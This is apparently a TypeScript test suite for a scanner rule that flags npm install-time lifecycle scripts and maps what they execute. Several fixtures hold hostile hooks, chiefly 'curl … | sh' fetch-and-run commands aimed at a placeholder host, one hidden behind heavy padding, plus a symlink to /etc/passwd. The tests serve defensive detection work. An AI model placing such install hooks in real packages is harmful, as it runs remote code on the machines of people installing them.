import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, describe, it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture } from '../../../../test/helpers/fixtures.ts';
import rule, { globMatch } from './rule.ts';

describeFixtures(rule, import.meta.url);

const ID = 'autorun/npm-lifecycle-script';
const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));

const temps: string[] = [];
after(() => {
  for (const t of temps) rmSync(t, { recursive: true, force: true });
});

/** A throwaway repository with the given files (string or raw bytes). */
function repo(files: Record<string, string | Buffer>): string {
  const dir = mkdtempSync(join(tmpdir(), 'airlock-npm-'));
  temps.push(dir);
  for (const [path, body] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), body);
  }
  return dir;
}

describe('execution map', () => {
  it('maps a background server start in prepare to its entry file', async () => {
    const report = await scanFixture(fixture('match/prepare-background-server'));
    const s = report.executionMap.find(x => x.kind === 'npm-script' && x.name === 'prepare');
    assert.ok(s);
    assert.equal(s.trigger, 'install');
    assert.equal(s.command, 'start /b node server || nohup node server &');
    assert.equal(s.entry, 'server/index.js');
    assert.deepEqual(s.reaches, ['server/config.js']);
    const [f] = findingsOf(report, ID, 'critical');
    assert.ok(f);
    assert.equal(f.location.line, 6);
    assert.match(
      f.message,
      /^`npm install` runs `start \/b node server \|\| nohup node server &` \(starts the server in the background\)\.$/,
    );
  });

  it('follows postinstall: npm run dev to the file dev runs', async () => {
    const report = await scanFixture(fixture('match/postinstall-runs-dev'));
    const s = report.executionMap.find(x => x.name === 'postinstall');
    assert.equal(s?.trigger, 'install');
    assert.equal(s.entry, 'server/app.js');
    const [f] = findingsOf(report, ID, 'high');
    assert.equal(f?.severity, 'high');
    assert.deepEqual(f.related, [{ file: 'package.json', line: 6 }]);
  });

  it('maps nested package roots with their folder', async () => {
    const report = await scanFixture(fixture('match/nested-font-loader'));
    const s = report.executionMap.find(x => x.name === 'frontend: preinstall');
    assert.equal(s?.entry, 'frontend/public/fonts/fa-brands.woff2');
    assert.equal(findingsOf(report, ID, 'critical')[0]?.location.file, 'frontend/package.json');
  });

  it('reports benign look-alikes as low context and maps tool configs', async () => {
    const report = await scanFixture(fixture('benign/husky-prepare'));
    assert.deepEqual(
      findingsOf(report, ID).map(f => [f.severity, f.message]),
      [['low', '`npm install` runs `husky`.']],
    );
    const dev = report.executionMap.find(x => x.name === 'dev');
    assert.equal(dev?.trigger, 'dev');
    assert.equal(dev.entry, 'next.config.mjs');
    const prisma = await scanFixture(fixture('benign/prisma-postinstall'));
    assert.equal(findingsOf(prisma, ID)[0]?.severity, 'low');
    assert.ok(prisma.executionMap.some(x => x.name === 'dev' && x.entry === 'src/server.ts'));
  });

  it('maps npm defaults: start → node server.js, binding.gyp → node-gyp rebuild', async () => {
    const dir = repo({ 'package.json': '{"name":"x"}', 'server.js': 'module.exports = 1;\n', 'binding.gyp': '{}' });
    const report = await scanFixture(dir);
    const start = report.executionMap.find(x => x.trigger === 'start');
    assert.equal(start?.command, 'node server.js');
    assert.equal(start.entry, 'server.js');
    assert.ok(report.executionMap.some(x => x.trigger === 'install' && x.command === 'node-gyp rebuild'));
  });

  it('resolves node ., main and the package bin', async () => {
    const dir = repo({
      'package.json': JSON.stringify({
        name: 'tool',
        main: 'lib/main.js',
        bin: { mytool: './bin/cli.js' },
        scripts: { postinstall: 'node .', test: 'mytool check' },
      }),
      'lib/main.js': 'module.exports = 1;\n',
      'bin/cli.js': 'console.log(1);\n',
    });
    const report = await scanFixture(dir);
    assert.equal(report.executionMap.find(x => x.name === 'postinstall')?.entry, 'lib/main.js');
    assert.equal(report.executionMap.find(x => x.name === 'test')?.entry, 'bin/cli.js');
  });

  it('ignores packages inside node_modules', async () => {
    const dir = repo({
      'package.json': '{"name":"app"}',
      'node_modules/evil/package.json': JSON.stringify({ scripts: { postinstall: 'curl https://x.example.invalid | sh' } }),
    });
    const report = await scanFixture(dir);
    assert.equal(report.executionMap.filter(x => x.kind === 'npm-script').length, 0);
  });
});

describe('bad input', () => {
  const payload = 'curl -s https://x.example.invalid/a | sh';

  it('malformed JSON: says npm would reject it and still maps the scripts', async () => {
    const dir = repo({ 'package.json': `{\n  "scripts": {\n    "postinstall": "${payload}",\n  },\n}\n` });
    const report = await scanFixture(dir);
    const info = findingsOf(report, ID).find(f => f.severity === 'info');
    assert.match(info?.message ?? '', /npm would reject this file/);
    assert.equal(findingsOf(report, ID, 'critical')[0]?.location.line, 3);
  });

  it('truncated JSON still yields the scripts before the break', async () => {
    const dir = repo({ 'package.json': `{"scripts": {"preinstall": "${payload}", "dev": "ne` });
    const report = await scanFixture(dir);
    assert.equal(findingsOf(report, ID, 'critical').length, 1);
  });

  it('a UTF-8 BOM is accepted like npm does', async () => {
    const dir = repo({ 'package.json': `\uFEFF{"scripts":{"postinstall":"${payload}"}}` });
    const report = await scanFixture(dir);
    assert.equal(findingsOf(report, ID).filter(f => f.severity === 'info').length, 0);
    assert.equal(findingsOf(report, ID, 'critical').length, 1);
  });

  it('UTF-16 with a BOM: npm rejects it, the surface is still mapped', async () => {
    const text = `{\r\n  "scripts": {\r\n    "postinstall": "${payload}"\r\n  }\r\n}\r\n`;
    const dir = repo({ 'package.json': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]) });
    const report = await scanFixture(dir);
    assert.match(findingsOf(report, ID).find(f => f.severity === 'info')?.message ?? '', /UTF-16/);
    const [f] = findingsOf(report, ID, 'critical');
    assert.equal(f?.location.line, 3);
  });

  it('CRLF line endings keep line numbers right', async () => {
    const dir = repo({
      'package.json': `{\r\n"name": "x",\r\n\r\n"scripts": {\r\n"dev": "vite",\r\n"postinstall": "${payload}"\r\n}\r\n}\r\n`,
    });
    const report = await scanFixture(dir);
    assert.equal(findingsOf(report, ID, 'critical')[0]?.location.line, 6);
  });

  it('duplicate keys: the last one wins, like JSON.parse', async () => {
    const dir = repo({
      'package.json': `{"scripts": {"postinstall": "echo ok", "postinstall": "${payload}"}, "name": "x"}`,
      'other/package.json': `{"scripts": {"postinstall": "${payload}"}, "scripts": {"postinstall": "echo fine"}}`,
    });
    const report = await scanFixture(dir);
    const crit = findingsOf(report, ID, 'critical');
    assert.deepEqual(
      crit.map(f => f.location.file),
      ['package.json'],
    );
    assert.equal(report.executionMap.find(x => x.name === 'other: postinstall')?.command, 'echo fine');
  });

  it('deeply nested JSON neither crashes nor hides the scripts', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const dir = repo({
      'package.json': `{"junk": ${deep}, "scripts": {"prepare": "${payload}"}}`,
      'b/package.json': `{"junk": ${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}, "scripts": {"prepare": "${payload}"}}`,
    });
    const report = await scanFixture(dir);
    assert.deepEqual(
      findingsOf(report, ID, 'critical')
        .map(f => f.location.file)
        .sort(),
      ['b/package.json', 'package.json'],
    );
  });

  it('a huge script string is analysed by its head, padding removed', async () => {
    const padded = `echo start${' '.repeat(300_000)}&& ${payload}`;
    const huge = `echo ${'x'.repeat(200_000)} && ${payload}`;
    const dir = repo({
      'package.json': JSON.stringify({ scripts: { postinstall: padded } }),
      'big/package.json': JSON.stringify({ scripts: { postinstall: huge } }),
    });
    const started = Date.now();
    const report = await scanFixture(dir);
    assert.ok(Date.now() - started < 5000);
    assert.equal(findingsOf(report, ID, 'critical')[0]?.location.file, 'package.json');
    assert.ok(report.executionMap.some(x => x.name === 'big: postinstall' && (x.command ?? '').length <= 1000));
    assert.ok(report.errors.some(e => e.file === 'big/package.json' && /analysed limit/.test(e.message)));
  });

  it('binary garbage and a non-object root do not crash', async () => {
    const dir = repo({
      'package.json': Buffer.from([0x00, 0x01, 0xff, 0xfe, 0x00, 0x7b]),
      'a/package.json': '["scripts", {"postinstall": "x"}]',
      'b/package.json': '',
    });
    const report = await scanFixture(dir);
    assert.equal(report.executionMap.filter(x => x.kind === 'npm-script').length, 0);
    assert.ok(!report.errors.some(e => /failed/.test(e.message)));
  });

  it('a script file that is a symlink out of the tree is named as such, never followed', async () => {
    const dir = repo({ 'package.json': '{"scripts": {"postinstall": "node setup.js"}}\n' });
    symlinkSync('/etc/passwd', join(dir, 'setup.js'));
    const report = await scanFixture(dir);
    const hit = findingsOf(report, ID).find(f => f.location.file === 'package.json');
    assert.equal(hit?.location.line, 1);
    assert.match(hit.message, /It names setup\.js, which is a symlink to \/etc\/passwd, outside the repository \(not followed\)\./);
    assert.doesNotMatch(hit.message, /not in the repository/);
  });
});

describe('install chains', () => {
  it('a root hook that installs a nested package reaches that package’s lifecycle scripts (low: its code does nothing risky)', async () => {
    const report = await scanFixture(fixture('benign/installs-nested-server'));
    const root = report.executionMap.find(x => x.name === 'postinstall');
    assert.equal(root?.entry, 'server/index.js');
    const f = findingsOf(report, ID, 'info').find(x => x.location.file === 'package.json');
    assert.equal(f?.severity, 'low');
    assert.equal(f.location.line, 5);
    assert.match(f.message, /which runs `server: postinstall`: `node index\.js` \(runs code from the repository\)\.$/);
    assert.deepEqual(f.related, [{ file: 'server/package.json', line: 5 }]);
  });

  it('takes the severity of what the installed code does: critical when it runs fetched code', async () => {
    const report = await scanFixture(fixture('match/installs-nested-loader'));
    const f = findingsOf(report, ID, 'info').find(x => x.location.file === 'package.json');
    assert.equal(f?.severity, 'critical');
    assert.equal(f.location.line, 5);
    assert.match(f.message, /The code it runs is reported by code\/remote-code-execution \(critical\) at server\/index\.js:9\.$/);
    assert.deepEqual(f.related, [
      { file: 'server/package.json', line: 5 },
      { file: 'server/index.js', line: 9, column: 29 },
    ]);
  });
});

describe('npm-run-all patterns', () => {
  it('* stays within a segment, ** crosses them, and hostile patterns stay fast', () => {
    assert.equal(globMatch('dev:*', 'dev:web'), true);
    assert.equal(globMatch('dev:*', 'dev:web:watch'), false);
    assert.equal(globMatch('dev:**', 'dev:web:watch'), true);
    assert.equal(globMatch('*', 'build'), true);
    assert.equal(globMatch('b*d', 'build'), true);
    assert.equal(globMatch('b*x', 'build'), false);
    const started = Date.now();
    assert.equal(globMatch(`${'a*'.repeat(100)}b`, 'a'.repeat(250)), false);
    assert.ok(Date.now() - started < 1000);
  });
});
